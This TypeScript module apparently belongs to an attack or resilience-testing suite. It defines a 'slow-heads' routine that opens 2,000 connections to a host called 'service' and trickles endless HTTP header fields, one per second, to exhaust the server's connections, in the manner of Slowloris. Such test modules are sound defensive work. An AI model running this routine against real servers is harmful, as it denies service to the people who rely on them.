import type { Attack } from '../attack.ts';

export const slowHeads: Attack = {
  name: 'slow-heads',
  sends: 'heads of requests, a header field a second, without an end',
  connections: 2_000,
  async run({ attacker, connections }) {
    const turn = attacker.pace(1_000);
    await attacker.each(connections, async (connection) => {
      await turn();
      await connection.send('GET /v1/events HTTP/1.1\r\nHost: service\r\n');
      for (let field = 0; ; field++) {
        await attacker.rest(1_000);
        await connection.send(`X-Field-${field}: 1\r\n`);
      }
    });
  },
};
